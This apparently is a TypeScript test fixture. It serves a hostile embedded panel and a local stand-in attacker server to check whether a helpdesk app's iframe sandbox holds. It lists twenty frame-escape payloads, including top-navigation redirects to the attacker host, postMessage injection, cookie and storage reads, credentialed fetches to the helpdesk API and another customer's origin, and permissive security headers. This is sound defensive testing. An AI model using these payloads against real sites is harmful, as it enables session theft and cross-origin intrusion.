import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { text } from 'node:stream/consumers'

/** The password of the hostile panel's customer. Whoever finds it anywhere has found a hole. */
export const canary = 'Cqnxry&7<vjult>"x\'Q9'

/** Where the tries of a panel want to go. */
export interface Marks {
  readonly helpdesk: string
  /** A server of the attacker's. */
  readonly evil: string
  /** The origin of another customer's visit, open in the same browser. */
  readonly otherVisit: string
}

/** One way out of a frame. A page says `escaped(true)` of what only it can see; the rest is seen from outside. */
export interface Try {
  readonly name: string
  readonly page: (marks: Marks) => string
  /** Pressed by the operator, so that the browser takes it for their wish. */
  readonly click?: boolean
  readonly headers?: http.OutgoingHttpHeaders
}

const script = (body: string): string => `<script>(async () => { ${body} })().catch(() => escaped(false))</script>`

/** Twenty ways out, as a hostile panel's pages try them (panel-4). */
export const tries: readonly Try[] = [
  { name: 'top.location', page: ({ evil }) => script(`top.location = '${evil}/top'`) },
  {
    name: 'a popup by click',
    page: ({ evil }) => `<button id="go" onclick="window.open('${evil}/popup')">Go</button>`,
    click: true,
  },
  { name: 'target=_top', page: ({ evil }) => `<a id="go" target="_top" href="${evil}/link">Go</a>`, click: true },
  { name: 'target=_blank', page: ({ evil }) => `<a id="go" target="_blank" href="${evil}/link">Go</a>`, click: true },
  { name: 'target=_parent', page: ({ evil }) => `<a id="go" target="_parent" href="${evil}/link">Go</a>`, click: true },
  {
    name: 'a form to _top',
    page: ({ evil }) => `<form target="_top" method="post" action="${evil}/form"><button id="go">Go</button></form>`,
    click: true,
  },
  { name: 'meta refresh', page: ({ evil }) => `<meta http-equiv="refresh" content="0; url=${evil}/refresh">` },
  {
    name: '<base>',
    page: ({ evil }) => `<base href="${evil}/" target="_top"><a id="go" href="base">Go</a>`,
    click: true,
  },
  {
    name: 'a javascript: link',
    page: ({ evil }) => `<a id="go" target="_top" href="javascript:location='${evil}/script'">Go</a>`,
    click: true,
  },
  {
    name: 'a download from elsewhere',
    page: ({ evil }) => `<a id="go" download="page.html" href="${evil}/download">Go</a>`,
    click: true,
  },
  {
    name: 'history',
    page: ({ evil }) =>
      script(`history.go(-history.length + 1); setTimeout(() => location.replace('${evil}/history'), 300)`),
  },
  {
    name: 'a service worker',
    page: () => script("await navigator.serviceWorker.register('/worker.js'); escaped(true)"),
  },
  {
    name: 'parent.document and opener',
    page: () =>
      script(
        "if (opener) { opener.location = '/'; return escaped(true) } escaped(parent.document.body.innerHTML !== '')",
      ),
  },
  {
    name: 'messages to the helpdesk',
    page: ({ evil }) =>
      script(`addEventListener('message', (event) => event.source === parent && escaped(true))
        for (const word of ['nav', 'token', 'ticket', 'session'])
          parent.postMessage({ guichet: word, path: '<meta http-equiv="refresh" content="0;url=${evil}/message">', title: '<b>' }, '*')`),
  },
  {
    name: 'cookies and storage',
    page: () =>
      script(`const all = document.cookie + JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage })
        escaped(/guichet|hostile_sid|gt_|ticket/.test(all))`),
  },
  {
    name: 'the API of the helpdesk',
    page: ({ helpdesk }) =>
      script(
        `const answer = await fetch('${helpdesk}/api/v1/tickets', { credentials: 'include' }); escaped((await answer.text()) !== '')`,
      ),
  },
  {
    name: 'the live line of the helpdesk',
    page: ({ helpdesk }) =>
      script(`const socket = new WebSocket('${helpdesk.replace('http', 'ws')}/api/v1/live')
        socket.onopen = () => escaped(true)
        socket.onerror = () => escaped(false)`),
  },
  {
    name: 'the visit of another customer',
    page: ({ otherVisit }) =>
      script(
        `const answer = await fetch('${otherVisit}/', { credentials: 'include' }); escaped((await answer.text()) !== '')`,
      ),
  },
  {
    name: 'the helpdesk in a frame of its own',
    page: ({ helpdesk }) => `<iframe name="inner" src="${helpdesk}/desk/tickets"></iframe>`,
  },
  {
    name: 'headers of its own',
    headers: {
      'content-security-policy':
        'frame-ancestors *; sandbox allow-scripts allow-same-origin allow-top-navigation allow-popups',
      'x-frame-options': 'ALLOWALL',
      'set-cookie': '__Host-guichet-panel=mine; Path=/; Secure',
      'access-control-allow-origin': '*',
      'cross-origin-opener-policy': 'unsafe-none',
    },
    page: ({ evil, helpdesk }) =>
      script(`const { headers } = await fetch(location.href)
        const policy = headers.get('content-security-policy') ?? ''
        if (!policy.includes("frame-ancestors 'self' ${helpdesk}") || /sandbox|frame-ancestors \\*/.test(policy)) return escaped(true)
        top.location = '${evil}/headers'`),
  },
]

/** A panel that is out for whoever opens it, and the attacker's server beside it. */
export interface HostilePanel {
  readonly url: string
  readonly evil: string
  /** Set before the first try. */
  marks: Marks | null
  /** What pages said of themselves. */
  readonly said: Map<string, boolean>
  /** Tries whose page was asked for. */
  readonly served: Set<string>
  /** Pages that browsers opened at the attacker's server. */
  readonly opened: string[]
  /** Answers nobody until it is told to go on; without an answer for those who wait, it cuts them off. */
  hold(): HeldPanel
  close(): Promise<void>
}

export interface HeldPanel {
  waiting: number
  goOn(answers: boolean): void
}

export async function hostilePanel(): Promise<HostilePanel> {
  const said = new Map<string, boolean>()
  const served = new Set<string>()
  const opened: string[] = []
  const listen = async (server: http.Server): Promise<string> => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  }
  const attacker = http.createServer((request, response) => {
    if (request.headers['sec-fetch-mode'] === 'navigate') opened.push(request.url ?? '')
    response.writeHead(200, { 'content-type': 'text/html' })
    response.end('<!doctype html><title>Evil</title>')
  })
  const evil = await listen(attacker)
  let held: (HeldPanel & { readonly until: Promise<boolean> }) | null = null
  const answer = async (request: http.IncomingMessage, response: http.ServerResponse): Promise<void> => {
    if (held) held.waiting++
    if (held && !(await held.until)) return void response.destroy()
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://panel')
    const send = (body: string, headers: http.OutgoingHttpHeaders = {}): void => {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...headers })
      response.end(`<!doctype html><title>Hostile</title>${body}`)
    }
    if (pathname === '/worker.js') return send('', { 'content-type': 'text/javascript' })
    if (pathname === '/said') {
      said.set(searchParams.get('name') ?? '', searchParams.get('escaped') === 'true')
      return send('')
    }
    if (pathname === '/sign-in' && request.method === 'POST') {
      const right = new URLSearchParams(await text(request)).get('password') === canary
      return right ? send('in', { 'set-cookie': 'hostile_sid=0123456789abcdef0123456789abcdef; Path=/' }) : send('no')
    }
    if (pathname === '/sign-in')
      return send('<form method="post"><input name="user"><input type="password" name="password"></form>')
    const one = tries[Number(pathname.split('/')[2] ?? -1)]
    if (!one || !panel.marks)
      return send(`<h1>Hostile panel</h1><pre id="canary">${canary.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}
${encodeURIComponent(canary)}\n${Buffer.from(canary).toString('base64')}\n${JSON.stringify(canary).replaceAll('<', '&lt;')}</pre><script>console.log(document.getElementById('canary').textContent)</script>`)
    served.add(one.name)
    return send(
      `<script>const escaped = (is) => fetch('/said?escaped=' + is + '&name=' + encodeURIComponent(${JSON.stringify(one.name)}))</script>${one.page(panel.marks)}`,
      one.headers,
    )
  }
  const server = http.createServer(
    (request, response) => void answer(request, response).catch(() => response.destroy()),
  )
  const url = await listen(server)
  const panel: HostilePanel = {
    url,
    evil,
    marks: null,
    said,
    served,
    opened,
    hold() {
      const { promise: until, resolve } = Promise.withResolvers<boolean>()
      const goOn = (answers: boolean): void => {
        held = null
        resolve(answers)
      }
      return (held = { waiting: 0, until, goOn })
    },
    close: async () => {
      for (const one of [server, attacker]) {
        one.closeAllConnections()
        await new Promise((resolve) => one.close(resolve))
      }
    },
  }
  return panel
}
